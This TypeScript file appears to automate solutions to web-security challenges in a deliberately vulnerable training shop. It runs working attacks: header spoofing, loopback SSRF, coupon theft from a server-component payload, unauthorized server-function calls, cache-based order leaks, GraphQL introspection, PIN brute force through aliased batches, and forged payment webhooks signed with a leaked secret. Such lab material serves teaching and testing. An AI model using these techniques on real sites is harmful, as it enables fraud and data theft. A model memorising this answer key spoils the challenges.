import { createHmac } from 'node:crypto';
import type { Answer, Game, Step } from './client.ts';

/**
 * Modern Stack: the shop's own challenges of its server components, server functions, build and
 * content graph, each by its attack over HTTP (the solves are all detected on the server).
 */

let customers = 0;

/** A customer of our own, registered and logged in: no seeded account is needed (nor changed). */
async function newCustomer(game: Game, label: string) {
  const email = `${label}-${Date.now().toString(36)}-${++customers}@juice-sh.op`;
  const password = 'modern-stack';
  await game.ok('/api/Users', { body: { email, password, passwordRepeat: password } });
  return { email, ...(await game.login(email, password)) };
}

/** The stock levels of the products, as anybody may read them. */
async function stockLevels(game: Game) {
  const { json } = await game.ok('/api/Quantitys');
  return json.data as Array<{ ProductId: number; quantity: number }>;
}

/** A customer with one order of their own (one product in stock bought), and that order as their history shows it. */
async function customerWithOrder(game: Game, label: string) {
  const product = (await stockLevels(game)).find((q) => q.quantity > 0);
  if (!product) throw new Error('nothing is in stock');
  const customer = await newCustomer(game, label);
  const { token, bid } = customer;
  await game.ok('/api/BasketItems/', { token, body: { ProductId: product.ProductId, BasketId: String(bid), quantity: 1 } });
  await game.ok(`/rest/basket/${bid}/checkout`, {
    token,
    body: {
      couponData: Buffer.from('null').toString('base64'),
      orderDetails: { addressId: '1', deliveryMethodId: '1', paymentId: '1' },
    },
  });
  const { json } = await game.ok('/rest/order-history', { token });
  const order = (json.data as Array<{ orderId: string; totalPrice: number }>).at(-1);
  if (!order) throw new Error('the order is not in the history');
  return { ...customer, order };
}

/**
 * What a player does in the developer tools: reads the scripts a page loads, following their
 * imports, until one matches `pattern`; the match.
 */
async function searchScripts(game: Game, page: string, pattern: RegExp): Promise<RegExpMatchArray> {
  const { text: html } = await game.ok(page);
  const queue = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+\.js)"/g)].map((m) => m[1]!);
  const seen = new Set<string>();
  while (queue.length) {
    const script = queue.shift()!;
    if (seen.has(script)) continue;
    seen.add(script);
    const { text: js } = await game.ok(script);
    const found = js.match(pattern);
    if (found) return found;
    for (const m of js.matchAll(/["'`]\.\/([\w.-]+\.js)["'`]/g)) queue.push(`/assets/${m[1]}`);
  }
  throw new Error(`no script of ${page} matches ${pattern}`);
}

const graphql = (game: Game, query: string) => game.call('/graphql', { body: { query } });

/** A GraphQL answer's data; throws on errors. */
function dataOf(answer: Answer) {
  if (answer.status !== 200 || answer.json?.errors) throw new Error(`graphql: ${answer.status} ${answer.text.slice(0, 300)}`);
  return answer.json.data;
}

type TypeRef = { name: string | null; kind: string; ofType: TypeRef | null };
const TYPE_REF = 'name kind ofType { name kind ofType { name kind ofType { name kind } } }';
const named = (t: TypeRef): TypeRef => (t.ofType ? named(t.ofType) : t);

export const steps: Step[] = [
  {
    // Staff Desk Spoofing: the grid trusts X-Forwarded-For to tell the shop's own machine
    solves: ['forwardedHeaderTrustChallenge'],
    run: async (game) => {
      const { text } = await game.ok('/search', { headers: { 'x-forwarded-for': '127.0.0.1' } });
      if (!text.includes('id="staff-desk"')) throw new Error('no staff desk shown');
    },
  },
  {
    // News Feed SSRF: the About Us page fetches its `news` address on the server, loopback included
    solves: ['newsFeedSsrfChallenge'],
    run: async (game) => {
      const internal = `http://127.0.0.1:${new URL(game.url).port}/rest/admin/application-version`;
      const { text } = await game.ok(`/about?news=${encodeURIComponent(internal)}`);
      if (!text.includes('id="news-preview"')) throw new Error('no preview shown');
    },
  },
  {
    // Streamed Staff Secret: the grid's server component hands every product's staff offer to a
    // client component, so the coupon travels in the RSC payload; redeemed in our own basket
    solves: ['rscPayloadLeakChallenge'],
    run: async (game) => {
      const { text } = await game.ok('/RSC/R/search.txt');
      const coupon = text.match(/"staffOffer":\{"discount":\d+,"coupon":"((?:[^"\\]|\\.)+)"/)?.[1];
      if (!coupon) throw new Error('no staff offer in the payload');
      const { token, bid } = await newCustomer(game, 'coupon-thief');
      await game.ok(`/rest/basket/${bid}/coupon/${encodeURIComponent(JSON.parse(`"${coupon}"`))}`, { method: 'PUT', token });
    },
  },
  {
    // Unprotected Server Function: the admins' restock function, called by its id from the bundle as a customer.
    // It sets a product's stock to what it is already, so the shop stays as it was.
    solves: ['unprotectedServerFunctionChallenge'],
    run: async (game) => {
      const id = (await searchScripts(game, '/search', /["'`]([\w.-]+)#restockProduct["'`]/))[1];
      const [{ ProductId, quantity: stock }] = (await stockLevels(game)) as [{ ProductId: number; quantity: number }];
      const { token } = await newCustomer(game, 'restocker');
      const { text } = await game.ok(`/RSC/F/${id}/restockProduct.txt`, {
        headers: { cookie: `token=${token}`, 'content-type': 'text/plain' },
        body: JSON.stringify([ProductId, stock]),
      });
      if (!text.includes(`"quantity":${stock}`)) throw new Error(`restock refused: ${text.slice(0, 200)}`);
    },
  },
  {
    // Cached Last Order: the last-order panel is cached by language only. One browser (one cookie
    // jar): a customer opens their order history, then another customer's visit is shown that order.
    solves: ['sharedRenderCacheChallenge'],
    run: async (game) => {
      const owner = await customerWithOrder(game, 'cache-owner');
      const stranger = await newCustomer(game, 'cache-peeker');
      // the order history's data call marks this browser as one where the owner looked
      const data = await game.fetch('/rest/order-history', { headers: { authorization: `Bearer ${owner.token}` } });
      await data.arrayBuffer();
      const viewers = data.headers
        .getSetCookie()
        .find((c) => c.startsWith('order_viewers='))
        ?.split(';')[0];
      if (!viewers) throw new Error('no order_viewers cookie');
      const panel = async (token: string, language: string) => {
        const { text } = await game.ok('/order-history', { headers: { cookie: `token=${token}; language=${language}; ${viewers}` } });
        return Boolean(text.match(/id="last-order"[\s\S]*?<\/section>/)?.[0].includes(owner.order.orderId));
      };
      // a panel cached in the last minute by somebody else's visit shows their order: try the other
      // language then, and, were both taken, look again until one has expired (they are kept a minute)
      const until = Date.now() + 65_000;
      for (;;) {
        for (const language of ['de_DE', 'en']) {
          if (!(await panel(owner.token, language))) continue;
          if (await panel(stranger.token, language)) return;
        }
        if (Date.now() > until) throw new Error("the owner's order was never shown to the other customer");
        await new Promise((r) => setTimeout(r, 2_000));
      }
    },
  },
  {
    // Graph Introspection: introspection is on; the one undocumented query field leaks the restock plan
    solves: ['graphqlIntrospectionChallenge'],
    run: async (game) => {
      const query = dataOf(
        await graphql(game, `{ __schema { queryType { fields { name description args { name } type { ${TYPE_REF} } } } } }`),
      ).__schema.queryType.fields as Array<{ name: string; description: string | null; args: unknown[]; type: TypeRef }>;
      const hidden = query.find((f) => !f.description?.trim() && f.args.length === 0);
      if (!hidden) throw new Error('every query field is documented');
      const typeName = named(hidden.type).name;
      const fields = dataOf(await graphql(game, `{ __type(name: "${typeName}") { fields { name type { ${TYPE_REF} } } } }`)).__type
        .fields as Array<{ name: string; type: TypeRef }>;
      const scalars = fields.filter((f) => ['SCALAR', 'ENUM'].includes(named(f.type).kind)).map((f) => f.name);
      dataOf(await graphql(game, `{ ${hidden.name} { ${scalars.join(' ')} } }`));
    },
  },
  {
    // Alias Batching: the rate limit counts requests, not checks; all 10,000 PINs in a few aliased requests
    solves: ['graphqlAliasBatchingChallenge'],
    run: async (game) => {
      const pins = Array.from({ length: 10_000 }, (_, i) => String(i).padStart(4, '0'));
      for (let start = 0; start < pins.length; start += 1_400) {
        const batch = pins.slice(start, start + 1_400);
        const data = dataOf(await graphql(game, `{ ${batch.map((pin) => `p${pin}: giftCardBalance(pin: "${pin}")`).join(' ')} }`));
        if (Object.values(data).some((balance) => balance !== null)) return;
      }
      throw new Error('no PIN has a balance');
    },
  },
  {
    // Recursive Recommendations: recommendations of recommendations; refused by the graph's cost limit (before anything runs)
    solves: ['graphqlDepthDosChallenge'],
    run: async (game) => {
      const answer = await graphql(game, `{ products { ${'related { '.repeat(4)}name${' }'.repeat(4)} } }`);
      if (answer.status !== 400) throw new Error(`the loop was not refused: ${answer.status} ${answer.text.slice(0, 200)}`);
    },
  },
  {
    // Public Build Secret: the payment provider's webhook secret is compiled into the payment screen's
    // script; a notification of our own order's payment, signed with it, is accepted
    solves: ['publicEnvSecretChallenge'],
    run: async (game) => {
      const settings = await searchScripts(
        game,
        '/saved-payment-methods',
        /webhookPath:\s*[`'"]([^`'"]+)[`'"],\s*webhookSignatureHeader:\s*[`'"]([^`'"]+)[`'"],\s*webhookSecret:\s*[`'"]([^`'"]+)[`'"]/,
      );
      const [, webhookPath, header, secret] = settings as unknown as [string, string, string, string];
      const { order } = await customerWithOrder(game, 'build-secret');
      const body = JSON.stringify({
        type: 'payment.succeeded',
        data: { orderId: order.orderId, amount: order.totalPrice, currency: 'USD' },
      });
      const signature = createHmac('sha256', secret).update(body).digest('hex');
      await game.ok(webhookPath, { body, headers: { 'content-type': 'application/json', [header]: signature } });
    },
  },
  {
    // Server Source Maps: an error page's stack trace names a server bundle, whose map is published under /assets/server/
    solves: ['serverSourceMapChallenge'],
    run: async (game) => {
      const { text } = await game.call('/rest/no-such-endpoint', { headers: { accept: 'text/html' } });
      const bundle = text.match(/dist\/server\/assets\/([\w.-]+\.js):\d+/)?.[1];
      if (!bundle) throw new Error('no server bundle in the stack trace');
      const { json } = await game.ok(`/assets/server/${bundle}.map`);
      if (!json?.sourcesContent?.length) throw new Error('the map carries no sources');
    },
  },
];
